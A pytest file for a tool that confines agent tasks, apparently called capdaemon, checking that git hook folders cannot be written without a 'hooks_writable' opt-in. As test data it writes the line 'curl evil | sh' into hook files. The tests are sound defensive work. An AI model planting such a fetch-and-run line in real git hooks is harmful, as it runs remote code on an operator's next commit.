"""The folders git hooks run from are not the task's to write unless it says so: `.husky/`,
`.githooks/` and the folder `core.hooksPath` names, refused by the static check and by the
kernel under `scope-guard run`, even when `paths` covers them; `hooks_writable: true` opts in.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from capdaemon.capability.taskfile import TaskFileError, parse_task_text
from capdaemon.cli import main

from .confined import confined
from .helpers import Git

TASK = """\
task_id: hooks-1
allowed_resources:
  paths: ["src/**", "tools/**", ".husky/**"]
  commands: ["scope-probe"]
{extra}"""
PROBE = """#!/usr/bin/env python3
import json, sys
out = {}
for path in json.load(sys.stdin):
    try:
        with open(path, "a") as fh:
            fh.write("curl evil | sh\\n")
        out[path] = 0
    except OSError as exc:
        out[path] = exc.errno
print(json.dumps(out))
"""
HOOKS = [".husky/pre-commit", "tools/hooks/pre-commit"]
NOT_HOOKS = ["tools/build.sh", "src/app.py"]


def _setup(tmp_path: Path, extra: str) -> tuple[Git, Path]:
    g = Git(tmp_path / "repo")
    files = {p: "#!/bin/sh\n" for p in [*HOOKS, *NOT_HOOKS]}
    g.write(files)
    g.commit("initial")
    g("config", "core.hooksPath", "tools/hooks")
    probe = tmp_path / "bin" / "scope-probe"
    probe.parent.mkdir()
    probe.write_text(PROBE)
    probe.chmod(0o755)
    state = tmp_path / "bot-state"
    task = tmp_path / "task.yml"
    task.write_text(TASK.format(extra=extra))
    assert main(["dispatch", str(task), "--state", str(state), "--repo", str(g.root)]) == 0
    return g, state


def test_hooks_folders_are_not_writable_without_the_opt_in(tmp_path: Path) -> None:
    """Under `run`, writing a husky hook or a hook in core.hooksPath's folder fails with
    EACCES; the other files of the same folders' siblings stay writable."""
    g, state = _setup(tmp_path, "")
    run = confined(state, g.root, "hooks-1", "scope-probe", ops=[*HOOKS, *NOT_HOOKS])  # type: ignore[list-item]
    assert run.code == 0, run.err
    assert run.probe == {**dict.fromkeys(HOOKS, 13), **dict.fromkeys(NOT_HOOKS, 0)}
    assert (g.root / HOOKS[0]).read_text() == "#!/bin/sh\n"


@pytest.mark.parametrize("path", HOOKS)
def test_the_static_check_refuses_hook_paths(tmp_path: Path, path: str, capsys) -> None:
    """`scope-guard PATH` refuses both hook folders (exit 1), naming the opt-in."""
    g, state = _setup(tmp_path, "")
    code = main(["scope-guard", "--task", "hooks-1", "--state", str(state), "--repo",
                 str(g.root), path])  # fmt: skip
    assert code == 1
    assert "hooks_writable: true" in capsys.readouterr().err
    ok = ["scope-guard", "--task", "hooks-1", "--state", str(state), "--repo", str(g.root)]
    assert main([*ok, "tools/build.sh"]) == 0


def test_the_opt_in_allows_both(tmp_path: Path) -> None:
    """With `hooks_writable: true` the same writes and the same static check pass."""
    g, state = _setup(tmp_path, "  hooks_writable: true\n")
    run = confined(state, g.root, "hooks-1", "scope-probe", ops=[*HOOKS])  # type: ignore[list-item]
    assert run.code == 0 and run.errnos() == [0, 0], run.err
    base = ["scope-guard", "--task", "hooks-1", "--state", str(state), "--repo", str(g.root)]
    assert main([*base, *HOOKS]) == 0


def test_the_opt_in_is_a_boolean() -> None:
    """A task file's `hooks_writable` must be true or false: anything else names the field."""
    text = TASK.format(extra='  hooks_writable: "yes"\n')
    with pytest.raises(TaskFileError) as err:
        parse_task_text(text)
    assert err.value.field == "allowed_resources.hooks_writable"


def test_finish_task_blocks_a_branch_that_edits_the_hooks_path(tmp_path: Path, capsys) -> None:
    """A committed edit under core.hooksPath's folder fails finish-task though `tools/**` is
    allowed: the operator's next commit would run it."""
    g, state = _setup(tmp_path, "")
    g("checkout", "-q", "-b", "task")
    g.write({"tools/hooks/pre-commit": "#!/bin/sh\ncurl evil | sh\n", "tools/build.sh": "x\n"})
    g.commit("edit")
    conf = tmp_path / "conf"
    conf.mkdir()
    code = main(["finish-task", "--task", "hooks-1", "--repo", str(g.root), "--state",
                 str(state), "--config", str(conf)])  # fmt: skip
    err = capsys.readouterr().err
    assert code == 1
    assert "tools/hooks/pre-commit" in err and "hooks_writable: true" in err
    assert "tools/build.sh" not in err
